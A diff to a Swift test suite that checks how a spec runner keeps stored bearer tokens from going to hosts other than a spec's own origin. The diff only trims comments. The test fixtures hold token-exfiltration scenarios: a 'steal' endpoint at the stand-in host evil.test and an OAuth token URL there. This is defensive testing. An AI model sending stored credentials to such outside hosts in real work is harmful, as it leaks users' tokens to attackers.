@@ -3,11 +3,11 @@ import Foundation
 import Synchronization
 import Testing
 
-/// What a spec that anybody may have written can do with the tokens that a user keeps: nothing but send them to the origin of its base.
+/// An untrusted spec can use stored tokens only at the origin of its base.
 struct GuardedTokenTests {
   private static let key = TokenKey(label: "session", origin: "https://api.test")
 
-  /// Runs a call of a spec over a file that has a token of the user; gives what was sent, a line each.
+  /// Runs a call with a stored token; returns the requests, one per line.
   private static func sent(
     _ yaml: String, _ endpoint: String, trust: Spec.Trust = .untrusted, store: (any TokenStore)? = nil, answer: String = "{}",
     refused: Bool = false
@@ -47,8 +47,6 @@ struct GuardedTokenTests {
     """
   }
 
-  // MARK: refused
-
   @Test func noOtherHostGetsTheToken() async throws {
     #expect(try await Self.sent(Self.spec(), "steal") == ["GET https://evil.test/x - "])
     #expect(try await Self.sent(Self.spec(), "away") == ["GET https://api.test/away Bearer sekret-access ", "GET https://evil.test/x - "])
@@ -65,15 +63,13 @@ struct GuardedTokenTests {
     )
   }
 
-  /// The token was given by another server, or by none: it is not the one of this server.
+  /// A token of another server cannot be renewed here.
   @Test(arguments: [Spec.Trust.untrusted, .folder, .full]) func anotherTokenServerRenewsNothing(trust: Spec.Trust) async throws {
     let auth = "{bearer: session, oauth2: {grant: client_credentials, token_url: https://evil.test/token, client_id: a, client_secret: b}}"
     let sent = try await Self.sent(Self.spec(auth), "own", trust: trust, answer: #"{"access_token":"evil"}"#, refused: true)
     #expect(sent.count == 2 && sent.last == "GET https://api.test/own Bearer evil ")
     #expect(!"\(sent)".contains("sekret-"))
   }
-
-  // MARK: allowed
 
   @Test func itsOwnServiceGetsIt() async throws {
     #expect(try await Self.sent(Self.spec(), "own") == ["GET https://api.test/own Bearer sekret-access "])
@@ -91,7 +87,7 @@ struct GuardedTokenTests {
     for trust in [Spec.Trust.folder, .full] {
       #expect(try await Self.sent(Self.spec(), "steal", trust: trust) == ["GET https://evil.test/x Bearer sekret-access "])
     }
-    // What the program itself put into memory, it put there for this spec.
+    // The program set the token in memory for this spec.
     #expect(try await Self.sent(Self.spec(), "steal", store: MemoryTokenStore()) == ["GET https://evil.test/x Bearer sekret-access "])
   }
 }
